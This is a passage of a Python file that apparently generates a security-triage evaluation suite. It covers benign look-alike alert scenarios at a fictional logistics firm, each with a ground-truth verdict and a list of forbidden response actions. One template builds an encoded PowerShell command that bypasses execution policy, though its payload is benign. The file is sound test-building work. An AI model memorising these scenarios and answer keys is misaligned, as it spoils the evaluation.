        "update.datalogic-tools.example",
        "Datalogic Tools S.p.A.",
    ),
    (
        "MeetUp video client",
        "MeetUpUpdater.exe",
        "C:\\Program Files\\MeetUp\\Update",
        "cdn.meetup-video.example",
        "MeetUp Communications Inc.",
    ),
)


@template("benign_lookalike", 4)
def signed_updater_flagged(s: Story, i: int) -> None:
    product, exe, folder, update_domain, signer = _UPDATERS[i]
    version = f"{s.rng.randint(4, 9)}.{s.rng.randint(0, 12)}.{s.rng.randint(100, 999)}"
    updater_hash = s.sha256()
    hosts = [laptop(p) for p in s.sample(OFFICE_STAFF, 2 + i % 2)]
    s.difficulty = "hard"
    s.start(s.workday_time(8, 12))
    s.title = f"EDR machine learning flags the signed {product} updater on {len(hosts)} laptops"
    s.description = (
        f"{signer} released {product} {version}; its updater {exe}, signed by {signer} and "
        f"downloaded from {update_domain}, runs from {folder} as SYSTEM on every laptop with "
        "the client. The EDR's machine-learning model has not seen the new build and flags it. "
        "The file is legitimate: a false positive."
    )
    updater = Proc(
        f"{folder}\\{exe}",
        f'"{folder}\\{exe}" /silent /update /v {version}',
        updater_hash,
        SERVICES,
    )
    for k, host in enumerate(hosts):
        when = s.at(k * s.rng.randint(2, 9))
        s.alert(
            f"falcon-ml-{host.hostname}",
            when,
            falcon_ml_detection,
            host,
            user="SYSTEM",
            proc=updater,
            sha256=updater_hash,
            level=3 if i % 2 else 4,
            confidence="medium",
        )
    if i % 2 == 0:
        host = hosts[0]
        s.alert(
            "defender-ml",
            s.at(2),
            defender_alert,
            title="An active 'Wacatac' malware was detected",
            level=3,
            description=f"Microsoft Defender Antivirus detected {exe} as "
            "Trojan:Win32/Wacatac.B!ml.",
            category="Malware",
            techniques=["T1204.002"],
            threat="Trojan:Win32/Wacatac.B!ml",
            evidence=[
                dv_device(host),
                dv_file(exe, folder, updater_hash, publisher=signer, signer=signer),
                dv_process(updater, None, s.at(2)),
                dv_url(f"https://{update_domain}/{product.split()[0].lower()}/{version}/{exe}"),
            ],
        )
    s.case(
        "ml-false-positive", s.refs(), "false_positive", evidence=[f"falcon-ml-{hosts[0].hostname}"]
    )
    forbid_defaults(s)
    s.forbid(
        ("block_hash", updater_hash),
        ("block_domain", update_domain),
        *(("isolate_host", h.hostname) for h in hosts),
    )


@template("benign_lookalike", 4)
def backup_job(s: Story, i: int) -> None:
    server = asset(FILE_SERVERS[i % 2])
    backup = asset("SRV-BKP-01")
    offsite_ip = s.ext_ip()
    offsite = "vault.vaultline-cloud.example"
    hard = i == 3
    s.difficulty = "hard" if hard else "standard"
    s.start(clock(s.pick(WORKDAYS), s.rng.randint(1, 2), s.rng.randint(0, 59)))
    s.title = f"Nightly backup of {server.hostname} by svc-backup" + (
        f", copied offsite to {offsite_ip}" if i in (1, 3) else ""
    )
    s.description = (
        f"The Vaultline backup agent, running as svc-backup, reads every file on "
        f"{server.hostname} at {s.t0:%H:%M}, snapshots the volume and writes to {backup.hostname}"
        + (
            f", which then replicates {s.rng.randint(30, 90)} GB to the offsite vault "
            f"{offsite} ({offsite_ip})."
            if i in (1, 3)
            else "."
        )
        + (
            " The offsite copy shows only as a large upload to a bare IP in the middle of the "
            "night."
            if hard
            else ""
        )
    )
    agent = Proc(
        "C:\\Program Files\\Vaultline\\vlagent.exe",
        '"C:\\Program Files\\Vaultline\\vlagent.exe" --job nightly-fs --full',
        s.sha256(),
        SERVICES,
    )
    s.alert(
        "elastic-mass-read",
        s.at(0),
        elastic_alert,
        rule="Potential Data Staging: Mass File Read by One Account",
        level=3,
        techniques=["T1074.001"],
        rule_type="threshold",
        description="One account read more than 10,000 files on a file server within an hour.",
        host=server,
        user="svc-backup",
        process=agent,
        reason=f"file events by svc-backup on {server.hostname} exceeded the threshold.",
        event={"category": ["file"], "type": ["access"]},
    )
    when = s.at(2)
    s.alert(
        "wazuh-shadow-copy",
        when,
        wazuh_alert,
        server,
        rule_id="100641",
        level=5,
        description="Volume shadow copy created by a backup requestor",
        groups=["windows", "vss"],
        data=win_event(
            when,
            server,
            provider="VSS",
            event_id="8224",
            channel="Application",
            message="The VSS service is shutting down due to idle timeout.",
            eventdata={"requestor": "vlagent.exe", "volume": "D:\\"},
        ),
    )
    if i in (1, 3):
        size = s.rng.randint(30, 90) * 10**9
        s.alert(
            "suricata-offsite",
            s.at(90),
            suricata_alert,
            src=backup.ips[0],
            dst=offsite_ip,
            dport=443,
            sid=2061195,
            signature="ET POLICY Large outbound transfer to an external host",
            category="Potential Corporate Privacy Violation",
            priority=2,
            techniques=["T1048.002"] if hard else (),
            app_proto="tls",
            extra={
                "tls": {"sni": offsite, "version": "TLS 1.3"}
                if not hard
                else {"version": "TLS 1.3"},
                "flow": {
                    "pkts_toserver": size // 1400,
                    "pkts_toclient": size // 40000,
                    "bytes_toserver": size,
                    "bytes_toclient": size // 50,
                    "start": eve_time(s.at(30)),
                },
            },
        )
    s.case("nightly-backup", s.refs(), "benign_positive", evidence=["elastic-mass-read"])
    forbid_defaults(s)
    s.forbid(
        ("disable_user", "svc-backup"),
        ("isolate_host", backup.hostname),
        ("isolate_host", server.hostname),
        ("block_ip", offsite_ip),
        ("block_domain", offsite),
    )


@template("benign_lookalike", 4)
def admin_rdp_at_work(s: Story, i: int) -> None:
    admin = ADMINS[i % len(ADMINS)]
    ws = laptop(admin)
    windows_servers = [h for h in managed_by(admin) if asset(h).os == WIN_SERVER]
    servers = [asset(h) for h in s.sample(windows_servers, min(len(windows_servers), 1 + i % 2))]
    s.start(s.workday_time(8, 16))
    s.title = f"{admin.name} logs on by RDP to {', '.join(a.hostname for a in servers)}"
    s.description = (
        f"{admin.name} logs on to {', '.join(a.hostname for a in servers)}, which they "
        f"administer, from {ws.hostname} during the working day."
    )
    for k, server in enumerate(servers):
        when = s.at(k * 20)
        s.alert(f"elastic-rdp-{server.hostname}", when, rdp_logon_alert, server, admin.user, ws)
        if k == 0 and i % 2 == 0:
            when = s.at(0.2)
            s.alert("wazuh-rdp", when, wazuh_rdp_logon, server, admin.user, ws, level=3)
    s.case("admin-at-work", s.refs(), "benign_positive", evidence=s.refs()[:1])
    forbid_defaults(s)
    s.forbid(
        ("disable_user", admin.user),
        ("isolate_host", ws.hostname),
        *(("isolate_host", a.hostname) for a in servers),
    )


@template("benign_lookalike", 3)
def build_server_encoded_powershell(s: Story, i: int) -> None:
    build = asset("SRV-BUILD-01")
    hard = i == 0
    s.difficulty = "hard" if hard else "standard"
    s.start(s.workday_time(8, 17))
    job = s.pick(("fleet-portal", "route-optimizer", "erp-connector", "warehouse-api"))
    s.title = f"Encoded PowerShell from the CI agent on {build.hostname} ({job} build)"
    s.description = (
        f"The Jenkins agent on {build.hostname} runs the {job} pipeline as svc-deploy; the "
        "pipeline's PowerShell steps are passed base64-encoded (-EncodedCommand) by the CI "
        "plugin, which EDR rules flag as obfuscation."
        + (" One run's alert is rated high." if hard else "")
    )
    agent = winproc("java.exe", '"java.exe" -jar C:\\jenkins\\agent.jar -workDir C:\\jenkins')
    step = winproc(
        "powershell.exe",
        "powershell.exe -NoProfile -NonInteractive "
        "-ExecutionPolicy Bypass -EncodedCommand "
        + encoded(
            f"Set-Location C:\\jenkins\\workspace\\{job}; Invoke-Pester -Path tests "
            f"-CI; Compress-Archive -Path out\\* -DestinationPath {job}.zip"
        ),
        agent,
    )
    s.alert(
        "defender-encoded",
        s.at(0),
        defender_alert,
        title="Suspicious PowerShell command line",
        level=4 if hard else 3,
        description="A PowerShell command line with an encoded command was run.",
        category="Execution",
        techniques=["T1059.001", "T1027"],
        evidence=[
            dv_device(build, users=["svc-deploy"]),
            dv_user("svc-deploy"),
            dv_process(step, "svc-deploy", s.at(0)),
        ],
    )
    if i != 2:
        s.alert(
            "falcon-encoded",
            s.at(0.5),
            crowdstrike_detection,
            build,
            user="svc-deploy",
            name="Suspicious Activity",
            description="PowerShell ran an encoded command with execution policy bypass.",
            level=3,
            proc=step,
            techniques=["T1059.001"],
        )
    s.case("ci-pipeline", s.refs(), "benign_positive", evidence=["defender-encoded"])
    forbid_defaults(s)
    s.forbid(
        ("block_hash", SIGNED["powershell.exe"]),
        ("disable_user", "svc-deploy"),
        ("isolate_host", build.hostname),
        ("block_hash", SIGNED["java.exe"]),
    )


@template("benign_lookalike", 5)
def internet_port_probes(s: Story, i: int) -> None:
    instance = PUBLIC_INSTANCES[i % 2]
    probers = [s.ext_ip() for _ in range(2 + i % 3)]
    s.start(s.pick([s.night_time(), s.workday_time(), s.evening_time()]))
    s.title = f"Internet port probes against {instance}"
    s.description = (
        f"Hosts on the internet probe unprotected ports of {instance}, a public instance, as "
        "they probe every address; nothing follows."
    )
    for k, prober in enumerate(probers):
        when = s.at(k * s.rng.randint(20, 90))
        port, name = s.pick(((22, "SSH"), (3389, "RDP"), (23, "Telnet"), (8080, "HTTP-alt")))
        s.alert(
            f"guardduty-probe-{k + 1}",
            when,
            guardduty_finding,
            finding_type="Recon:EC2/PortProbeUnprotectedPort",
            severity=2.0,
            title=f"Unprotected port on EC2 instance {instance} is being probed.",
            description=PORT_PROBE,
            resource=gd_instance(instance),
            action=gd_probe(ip_of(instance), [(port, name, prober, s.pick(HOSTILE_COUNTRIES))]),
            count=s.rng.randint(3, 60),
            first_seen=when - timedelta(hours=1),
        )
    if i % 2:
        web = asset(s.pick(WEB_SERVERS))
        s.alert(
            "suricata-dshield",
            s.at(5),
            suricata_alert,
            src=probers[0],
            dst=web.ips[0],
            dport=8443,
            sid=2402000,
            signature="ET DROP Dshield Block Listed Source group 1",
            category="Misc Attack",
            priority=2,
            action="blocked",
        )
    s.case("internet-background-noise", s.refs(), "benign_positive", evidence=["guardduty-probe-1"])
    forbid_defaults(s)
    s.forbid(("isolate_host", instance), ("block_ip", EC2_PUBLIC_IPS[instance]))


_NEWSLETTERS = (
    ("newsletter@logistics-today.example", "Logistics Today", "Port congestion and rates"),
    ("updates@freightexchange.example", "Freight Exchange", "Your weekly load matches"),
    ("events@hr-academy.example", "HR Academy", "Webinar invitation: hybrid work policies"),
    ("digest@fleet-telematics.example", "Fleet Telematics", "Tyre pressure alerts explained"),
)


@template("benign_lookalike", 4)
def newsletter_flagged(s: Story, i: int) -> None:
    sender, name, topic = _NEWSLETTERS[i]
    domain = sender.split("@", 1)[1]
    sender_ip = s.ext_ip(("192.0.2",))
    readers: list[Person] = s.sample(OFFICE_STAFF, 4)
    s.start(s.workday_time(7, 10))
    s.title = f"{name} newsletter flagged as possible phishing"
    s.description = (
        f"{name}, a newsletter Northwind staff subscribed to, sends '{topic}' from {sender} "
        "with DKIM and SPF passing. Its links go through a click tracker whose text does not "
        "match the destination, so the gateway flags it"
        + ("; one reader reports it as phishing." if i != 1 else ".")
    )
    url = f"https://click.{domain}/t/{s.hex(12)}"
    s.alert(
        "mail-flagged",
        s.at(0),
        mail_gateway,
        title="Possible phishing: link text does not match its destination",
        desc="Links in the message display one address and lead to another (a click tracker).",
        analytic=("HMG-PH-0019", "Mismatched link text"),
        techniques=["T1566.002"],
        level=2,
        sender=sender,
        recipients=[p.email for p in readers],
        subject=f"{name}: {topic}",
        sender_ip=sender_ip,
        urls=[url],
        types=["Phishing", "Bulk"],
    )
    if i != 1:
        reporter = readers[0]
        message = dv_message(
            sender=sender,
            sender_name=name,
            recipient=reporter.email,
            subject=f"{name}: {topic}",
            sender_ip=sender_ip,
            received=s.at(0),
            urls=[url],
            threats=(),
            verdict="unknown",
        )
        s.alert(
            "defender-user-report",
            s.at(35),
            defender_alert,
            title="Email reported by user as malware or phish",
            level=1,
            description=f"{reporter.email} reported a message as phishing.",
            category="InitialAccess",
            techniques=["T1566"],
            source="microsoftDefenderForOffice365",
            evidence=[message, dv_mailbox(reporter.user), dv_ip(sender_ip)],
        )
    s.case("legitimate-newsletter", s.refs(), "false_positive", evidence=["mail-flagged"])
    forbid_defaults(s)
    s.forbid(
        ("quarantine_email", sender), ("block_domain", domain), ("block_domain", f"click.{domain}")
    )


@template("benign_lookalike", 3)
def routine_noise(s: Story, i: int) -> None:
    day = s.pick(WORKDAYS[4:])
    s.start(clock(day, s.rng.randint(8, 16), s.rng.randint(0, 59)))
    refs: list[str] = []
    minute = -3 * 24 * 60 + s.rng.randint(0, 120)
    if i == 0:
        printer = asset("SRV-PRINT-01")
        copier = f"10.40.1.{s.rng.randint(10, 60)}"
        s.title = "Scan-to-folder copier fails to log on as svc-print every few hours"
        s.description = (
            f"A copier ({copier}) still uses an old svc-print password for scan-to-folder, so "
            f"{printer.hostname} logs a failed logon every few hours. A known, ticketed nuisance."
        )
        s.forbid(("disable_user", "svc-print"), ("isolate_host", printer.hostname))

        def record(when: datetime) -> Record:
            return wazuh_logon_failure(
                when, printer, "svc-print", source_ip=copier, workstation="COPIER-2F"
            )
    elif i == 1:
        person = s.pick(OFFICE_STAFF)
        ws = laptop(person)
        relay = s.ext_ip(("192.0.2",))
        s.title = f"STUN traffic from {ws.hostname}'s meeting client every few hours"
        s.description = (
            f"The video-meeting client on {ws.hostname} sends STUN binding requests to its "
            f"media relay {relay} whenever {person.first} joins a call; an ET INFO rule alerts."
        )
        s.forbid(("isolate_host", ws.hostname), ("block_ip", relay))

        def record(when: datetime) -> Record:
            return suricata_alert(
                when,
                src=ws.ips[0],
                dst=relay,
                dport=3478,
                proto="UDP",
                sid=2016149,
                signature="ET INFO Session Traversal Utilities for NAT (STUN Binding Request)",
                category="Attempted User Privilege Gain",
                priority=3,
                signature_severity="Informational",
            )
    else:
        person = s.pick(OFFICE_STAFF)
        ws = laptop(person)
        s.title = f"Defender definition updates keep failing on {ws.hostname}"
        s.description = (
            f"{ws.hostname} cannot reach the update server through a broken proxy setting and "
            "reports the failed definition update every few hours."
        )
        s.forbid(("isolate_host", ws.hostname))

        def record(when: datetime) -> Record:
            return definitions_failure(when, ws)

    while minute <= 0:
        when = s.at(minute)
        refs.append(s.alert(f"noise-{len(refs) + 1:02d}", when, record))
        minute += s.rng.randint(3 * 60, 5 * 60)
    s.case("recurring-noise", refs, "benign_positive", evidence=refs[:1])
    forbid_defaults(s)


_GROUPS = ("Finance-Approvers", "ERP-PowerUsers", "VPN-Contractors", "Fleet-Dispatch-Admins")


@template("benign_lookalike", 4)
def ad_group_change(s: Story, i: int) -> None:
    admin = (
        PEOPLE["bob.nguyen"],
        PEOPLE["priya.shah"],
        PEOPLE["sara.lindqvist"],
        PEOPLE["tomasz.kowal"],
    )[i]
    member = s.pick(OFFICE_STAFF)
    group = _GROUPS[i]
    dc = asset(("DC-01", "DC-02")[i % 2])
    ticket = f"REQ-{s.rng.randint(100000, 199999)}"
    s.start(s.workday_time(8, 16))
    s.title = f"{admin.name} adds {member.name} to {group} ({ticket})"
    s.description = (
        f"Following access request {ticket}, approved by {member.name}'s manager, "
        f"{admin.name} adds {member.user} to the {group} group on {dc.hostname} during the "
        "working day. Group changes to sensitive groups are alerted on."
    )
    when = s.at(0)
    s.alert(
        "wazuh-group-member-added",
        when,
        wazuh_alert,
        dc,
        rule_id="60144",
        level=8,
        description="Domain security group member added",
        groups=["windows", "win_security", "group_changed"],
        techniques=["T1098"],
        data=win_event(
            when,
            dc,
            provider="Microsoft-Windows-Security-Auditing",
            event_id="4728",
            message="A member was added to a security-enabled global group.",
            eventdata={
                "memberName": f"CN={member.name},OU=Staff,DC=northwind,DC=example",
                "memberSid": sid_of(member.user),
                "targetUserName": group,
                "targetDomainName": NETBIOS,
                "subjectUserName": admin.user,
                "subjectDomainName": NETBIOS,
                "subjectUserSid": sid_of(admin.user),
            },
        ),
    )
    if i != 1:
        s.alert(
            "defender-sensitive-group",
            s.at(3),
            defender_alert,
            title="Suspicious additions to sensitive groups (external ID 2024)",
            level=3,
            description=f"{admin.user} added {member.user} to {group}.",
            category="Persistence",
            techniques=["T1098"],
            source="microsoftDefenderForIdentity",
            evidence=[
                dv_user(admin.user, ("contextual",)),
                dv_user(member.user),
                dv_device(laptop(admin), roles=("source",)),
            ],
        )
    s.case(
        "approved-access-change", s.refs(), "benign_positive", evidence=["wazuh-group-member-added"]
    )
    forbid_defaults(s)
    s.forbid(
        ("isolate_host", dc.hostname), ("disable_user", admin.user), ("disable_user", member.user)
    )


# ============================================================================================
# Building and writing the suite
# ============================================================================================

DESCRIPTION = (
    "Hand-written scenarios by the tierzero developers: attacks and benign look-alikes at the "
    "fictional Northwind Logistics, each a vendor-shaped alert stream with its ground truth. "
    "Generated by tierzero/evals/builtin_suite.py from story templates with parameter variation."
)


def build(seed: int = SEED) -> tuple[DatasetHeader, dict[str, list[Scenario]]]:
    """Every template's variants, grouped by category (in template order)."""
    by_category: dict[str, list[Scenario]] = {}
    for tpl in TEMPLATES:
        for index in range(tpl.variants):
            # Seeded per template and variant: editing one story never changes another.
            rng = random.Random(f"{seed}:{tpl.name}:{index}")
            story = Story(f"{tpl.slug}-{index + 1:02d}", tpl.category, rng)
            tpl.write(story, index)
            by_category.setdefault(tpl.category, []).append(story.scenario())
    header = DatasetHeader(
        name="builtin", version=VERSION, description=DESCRIPTION, environment=base_environment()
    )
    return header, by_category


def _dump(value: Any) -> str:
    return json.dumps(value, indent=1, sort_keys=True, ensure_ascii=False) + "\n"


def render(header: DatasetHeader, by_category: dict[str, list[Scenario]]) -> dict[str, str]:
    """File name (relative to the dataset folder) -> exact text."""
    files = {"dataset.json": _dump(header.model_dump(mode="json", exclude_defaults=True))}
    for category, scenarios in sorted(by_category.items()):
        files[f"scenarios/{category}.json"] = _dump(
            [s.model_dump(mode="json", exclude_defaults=True) for s in scenarios]
        )
    return files


def write(folder: Path = BUILTIN) -> list[Path]:
    """(Re)write the dataset folder; scenario files of categories that no longer exist go."""
    files = render(*build())
    (folder / "scenarios").mkdir(parents=True, exist_ok=True)
    for stale in (folder / "scenarios").glob("*.json"):
        if f"scenarios/{stale.name}" not in files:
            stale.unlink()
    written = []
    for name, content in files.items():
        path = folder / name
        path.write_text(content, encoding="utf-8")
        written.append(path)
    return written


if __name__ == "__main__":
    for path in write():
        print(path)
